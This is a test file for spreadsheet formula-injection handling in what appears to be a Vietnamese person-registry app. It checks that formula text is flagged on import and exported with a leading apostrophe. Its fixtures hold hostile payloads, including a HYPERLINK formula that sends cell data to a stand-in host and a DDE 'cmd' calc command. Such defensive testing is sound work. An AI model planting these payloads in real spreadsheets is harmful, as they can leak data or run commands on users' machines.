/**
 * Formula text is flagged on import and neutralised on export (issue 12, defect 10).
 */
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { makeSignedInCore, type TestCore } from '../../../../test/helpers/core.ts';
import { personInput } from '../../../../test/helpers/persons.ts';
import { CodeLists } from '../../codes/code-lists.ts';
import { defaultResourcesDir } from '../../paths.ts';
import { looksLikeFormula, neutraliseFormula } from './formula-text.ts';
import { detectMapping } from './mapping.ts';
import { readTable } from './read-table.ts';
import { toPersonRows } from './rows.ts';

let t: TestCore | undefined;
afterEach(() => t?.close());

const HOSTILE = [
  '=HYPERLINK("http://x.example/?d="&A1,"Bấm")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
];

describe('formula text', () => {
  it('is recognised, and a phone number or an ordinary dash is not', () => {
    for (const s of HOSTILE) expect([s, looksLikeFormula(s)]).toEqual([s, true]);
    for (const s of ['+84 912 345 678', '- Thôn 3', 'Nguyễn Văn A', '-5', ''])
      expect([s, looksLikeFormula(s)]).toEqual([s, false]);
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
  });

  it('is flagged in the row’s verdict on import, and kept as text', async () => {
    const csv = `Họ và tên,Ngày sinh,Giới tính,Địa chỉ,Nghề nghiệp\r\nHà Văn Tuấn,04/04/1974,Nam,"=HYPERLINK(""http://x.example"",""Bấm"")",@SUM(1)\r\n`;
    const r = await readTable('ds.csv', Buffer.from(csv, 'utf8'));
    if (!r.ok) throw new Error(r.error.message);
    const sheet = r.sheets[r.defaultSheet];
    const rows = toPersonRows(sheet, detectMapping(sheet).mapping, {
      today: '2026-11-22',
      ethnicities: new CodeLists(defaultResourcesDir).ethnicities(),
    }).rows;
    const warnings = rows[0].problems.filter((p) => p.severity === 'warning').map((p) => p.message);
    expect(warnings.filter((m) => /công thức Excel/.test(m))).toHaveLength(2);
    expect(rows[0].person.occupation).toBe('@SUM(1)');
  });

  it('goes out of the registry export with a leading apostrophe, never as a formula', async () => {
    t = await makeSignedInCore();
    await t.ok('persons.create', {
      person: personInput({ occupation: '=HYPERLINK("http://x.example","Bấm")' }),
    });
    const out = await t.ok('persons.export', {});
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(out.contentBase64, 'base64') as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    const col = (ws.getRow(1).values as unknown[]).indexOf('Nghề nghiệp');
    const cell = ws.getRow(2).getCell(col);
    expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(cell.value).toBe('\'=HYPERLINK("http://x.example","Bấm")');
  });
});
